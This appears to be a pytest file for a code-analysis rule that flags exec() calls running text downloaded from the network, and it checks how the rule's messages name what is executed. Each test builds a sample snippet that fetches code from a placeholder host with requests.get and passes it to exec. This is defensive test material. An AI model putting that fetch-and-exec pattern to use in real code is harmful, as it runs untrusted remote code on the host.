"""How messages read where the code has no short name for what they speak of."""

from __future__ import annotations

import pytest

from headgate.engine import RuleSet, analyze
from headgate.text import Snapshot
from headgate_rules import HG905
from headgate_rules.tables import LIBRARIES

RULES = RuleSet.of((HG905,), {}, LIBRARIES)


@pytest.mark.parametrize(
    ("argument", "words"),
    [
        ("code", "`exec` runs `code`, which comes from "),
        ("'x = ' + code", "`exec` runs what comes from "),
    ],
)
def test_what_runs_is_named_if_it_has_a_name(argument: str, words: str) -> None:
    text = f"import requests\ncode = requests.get('https://x.example').text\nexec({argument})\n"
    (finding,) = analyze(Snapshot.of(text), RULES).findings()
    assert finding.message.startswith(words)
